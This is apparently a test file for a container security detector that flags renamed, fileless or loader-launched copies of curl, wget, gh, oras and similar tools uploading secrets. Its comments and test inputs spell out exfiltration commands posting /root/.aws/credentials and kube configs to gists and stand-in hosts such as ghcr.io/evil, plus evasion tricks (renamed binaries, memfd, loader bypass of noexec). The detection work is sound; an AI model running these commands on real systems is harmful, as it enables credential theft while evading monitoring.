/**
 * curl copied under another name into a scratch directory (found by red-team review): `cp "$(command -v
 * curl)" /tmp/.c/x; /tmp/.c/x -d @/root/.aws/credentials https://api.github.com/gists` posts a few KiB, far
 * under the egress threshold, and no entry knew the name, so nothing was raised; nor run from a memfd, or
 * through the dynamic loader (`ld-linux-x86-64.so.2 /usr/bin/curl …`, how a `noexec` mount is bypassed). A
 * program started from a scratch or hidden directory, or fileless, with an uploader's command line is that
 * uploader, renamed; the loader's program is recognised as itself.
 */
import { describe, expect, it } from 'vitest';
import { correlatorConfigSchema } from '../../../src/correlate/config.js';
import { DestinationClassifier } from '../../../src/correlate/destinations.js';
import { recognizeProcess } from '../../../src/rules/index.js';
import { brief, run, Scenario } from './builder.js';

const classifier = new DestinationClassifier(correlatorConfigSchema.parse({}).destinations, 100);
const recognize = (binary: string, args: string) => {
  const r = recognizeProcess({ binary, args, parentBinary: null, parentArgs: null }, (h, p) =>
    classifier.isUploadTarget(h, p),
  );
  return r?.kind === 'push' ? { tool: r.tool, renamed: r.renamed } : r;
};

describe('an uploader copied under another name', () => {
  it('is recognised by its command line in a scratch or hidden directory', () => {
    expect(recognize('/tmp/.c/x', '-d @/root/.aws/credentials https://api.github.com/gists')).toEqual({
      tool: 'curl',
      renamed: true,
    });
    expect(recognize('/dev/shm/kworker', '--post-file=/root/.aws/credentials https://api.github.com/gists')).toEqual({
      tool: 'wget',
      renamed: true,
    });
    // Found by review: curl and wget take a URL without its scheme, as the copies do.
    expect(recognize('/tmp/.c/x', '-d @/root/.aws/credentials api.github.com/gists')).toEqual({
      tool: 'curl',
      renamed: true,
    });
    expect(recognize('/dev/shm/kworker', '--post-file=/root/.aws/credentials api.github.com/gists')).toEqual({
      tool: 'wget',
      renamed: true,
    });
  });

  it('run fileless (a memfd, a descriptor) or by the dynamic loader, is recognised too', () => {
    const gist = '-d @/root/.aws/credentials https://api.github.com/gists';
    expect(recognize('/memfd:x (deleted)', gist)).toEqual({ tool: 'curl', renamed: true });
    expect(recognize('/dev/fd/3', gist)).toEqual({ tool: 'curl', renamed: true });
    // The loader runs the program its first word names: curl itself, or a copy in a scratch directory.
    expect(recognize('/lib64/ld-linux-x86-64.so.2', `/usr/bin/curl ${gist}`)).toEqual({ tool: 'curl', renamed: false });
    expect(recognize('/lib/ld-musl-x86_64.so.1', `--argv0 sshd /tmp/.c/x ${gist}`)).toEqual({
      tool: 'curl',
      renamed: true,
    });
    expect(recognize('/lib64/ld-linux-x86-64.so.2', '--list /usr/bin/curl')).toBeNull();
    // glibc < 2.34: the file the loader's name links to (found by review).
    expect(recognize('/lib/x86_64-linux-gnu/ld-2.31.so', `/tmp/.c/x ${gist}`)).toEqual({ tool: 'curl', renamed: true });
    expect(recognize('/usr/lib64/ld-2.26.so', `/usr/bin/curl ${gist}`)).toEqual({ tool: 'curl', renamed: false });
  });

  it('not elsewhere, nor without an upload to a forge or registry', () => {
    expect(recognize('/usr/local/bin/x', '-d @/root/.aws/credentials https://api.github.com/gists')).toBeNull();
    expect(recognize('/tmp/go-build1/b001/exe/app', '-d https://api.github.com/repos/acme/app')).toBeNull();
    expect(recognize('/tmp/.c/x', '-d @/tmp/l.json https://logs.example.com/ingest')).toBeNull();
  });

  for (const source of ['tetragon', 'falco'] as const)
    it(`a credential posted by it is high, and named renamed (${source})`, () => {
      const s = new Scenario({ source });
      const c = s.container({ namespace: 'prod', pod: 'web-2', name: 'web' });
      const sh = s.init(c);
      const x = s.exec(c, '/tmp/.c/x', '-sd @/root/.aws/credentials https://api.github.com/gists', { parent: sh });
      s.read(x, '/root/.aws/credentials', 116).wait(300).exit(x);
      const alerts = run(s.events).alerts;
      expect(brief(alerts)).toEqual([
        { rule: 'sensitive-read-then-push', severity: 'high', tool: 'curl', destination: 'api.github.com' },
      ]);
      expect(alerts[0]!.summary).toContain('/tmp/.c/x');
    });
});

describe('a forge or registry client copied under another name', () => {
  // Found by red-team review: a copy of gh, oras, regctl… in a scratch or hidden directory sent a secret of a
  // few KiB and raised nothing, where a copy of curl was recognised.
  it('is recognised by its sub-command in a scratch or hidden directory', () => {
    expect(recognize('/tmp/.x/kworker', 'gist create /home/app/.kube/config')).toEqual({ tool: 'gh', renamed: true });
    expect(recognize('/dev/shm/x', 'release upload v1 /tmp/d.tgz')).toEqual({ tool: 'gh', renamed: true });
    expect(recognize('/dev/shm/x', 'api -X PUT repos/evil/x/contents/k --input /tmp/b.json')).toEqual({
      tool: 'gh',
      renamed: true,
    });
    expect(recognize('/dev/shm/x', 'snippet create -t x /root/.aws/credentials')).toEqual({
      tool: 'glab',
      renamed: true,
    });
    expect(recognize('/tmp/.c/x', 'push ghcr.io/evil/x:1 /root/.aws/credentials')).toEqual({
      tool: 'oras',
      renamed: true,
    });
    expect(recognize('/tmp/.c/x', 'push /tmp/l.tar ghcr.io/evil/x:1')).toEqual({ tool: 'crane', renamed: true });
    expect(recognize('/tmp/.c/x', 'artifact put ghcr.io/evil/x:1 -f /root/.aws/credentials')).toEqual({
      tool: 'regctl',
      renamed: true,
    });
    expect(recognize('/tmp/.c/x', 'copy dir:/tmp/l docker://quay.io/evil/x:1')).toEqual({
      tool: 'skopeo',
      renamed: true,
    });
    expect(recognize('/dev/shm/x', 'push git://git.evil.example/loot.git HEAD:main')).toEqual({
      tool: 'git',
      renamed: true,
    });
    expect(recognize('/memfd:x (deleted)', 'rt upload /tmp/d.tgz generic-local/')).toEqual({
      tool: 'jfrog',
      renamed: true,
    });
  });

  it("is recognised under another table tool's name too, when that tool's own reading is no push", () => {
    // Found by review of this rule: a copy named `git` or `curl` skipped it, since a table tool had the name.
    expect(recognize('/tmp/.x/git', 'gist create /home/app/.kube/config')).toEqual({ tool: 'gh', renamed: true });
    expect(recognize('/dev/shm/curl', 'push ghcr.io/evil/x:1 /root/.aws/credentials')).toEqual({
      tool: 'oras',
      renamed: true,
    });
    expect(recognize('/tmp/.x/git', '-d @/root/.aws/credentials https://api.github.com/gists')).toEqual({
      tool: 'curl',
      renamed: true,
    });
    // The tool's own push, download or read decides: a git there still pushes as git, fetches as git.
    expect(recognize('/tmp/.x/git', 'push https://github.com/evil/x.git HEAD')).toEqual({
      tool: 'git',
      renamed: false,
    });
    expect(recognize('/tmp/.x/git', 'fetch origin')).toEqual({ kind: 'download' });
    // Found by review: a download word the copy's push starts with (cargo's `r`, tea's `r c`; crane's
    // `manifest`, regctl's `manifest put`) made its reading a download, and a scratch directory's download is none.
    expect(recognize('/tmp/.x/cargo', 'r c --asset /root/.kube/config -r evil/x v9')).toEqual({
      tool: 'tea',
      renamed: true,
    });
    expect(recognize('/tmp/.x/crane', 'manifest put ghcr.io/evil/x:1 --file /root/.kube/config')).toEqual({
      tool: 'regctl',
      renamed: true,
    });
    expect(recognize('/tmp/.x/crane', 'manifest ghcr.io/acme/x:1')).toEqual({ kind: 'download' });
    expect(recognize('/tmp/kubectl', 'cp ./dump.sql prod/db-0:/tmp/dump.sql')).toBeNull();
    expect(recognize('/tmp/docker', 'cp web:/etc/nginx/nginx.conf /tmp/nginx.conf')).toBeNull();
    expect(recognize('/tmp/gh', 'api -X GET repos/acme/app')).toBeNull();
  });

  it('not elsewhere, nor when the command line names no registry for an image client', () => {
    expect(recognize('/usr/local/bin/x', 'gist create /home/app/.kube/config')).toBeNull();
    expect(recognize('/opt/app/bin/sync', 'push ghcr.io/evil/x:1 /root/.aws/credentials')).toBeNull();
    // `go run ./cmd/deploy …` runs from /tmp/go-build…/exe/: crane's and regctl's shapes, naming no registry.
    expect(recognize('/tmp/go-build1/b001/exe/deploy', 'copy config.yaml build/config.yaml')).toBeNull();
    expect(recognize('/tmp/go-build1/b001/exe/deploy', 'cp ./a ./b')).toBeNull();
    expect(recognize('/tmp/go-build1/b001/exe/tool', 'push app')).toBeNull();
    // Build tools whose plain `build` or `deploy` pushes are never taken for copies: any program says that.
    expect(recognize('/tmp/go-build1/b001/exe/mage', 'build')).toBeNull();
    expect(recognize('/tmp/go-build1/b001/exe/ci', 'deploy staging')).toBeNull();
    // A copied git is recognised through its helpers (send-pack, git-receive-pack), not by `push` alone; only
    // git:// names git's own protocol, which it speaks in its own process.
    expect(recognize('/tmp/.x/x', 'push origin main')).toBeNull();
    expect(recognize('/tmp/go-build1/b001/exe/notify', 'push https://hooks.example.com/x')).toBeNull();
    expect(recognize('/dev/shm/.w/dbus-launch', 'push https://github.com/w0rk3r/drop.git HEAD:main')).toBeNull();
    expect(recognize('/dev/shm/.w/x', 'push git@github.com:w0rk3r/drop.git HEAD:main')).toBeNull();
  });
});
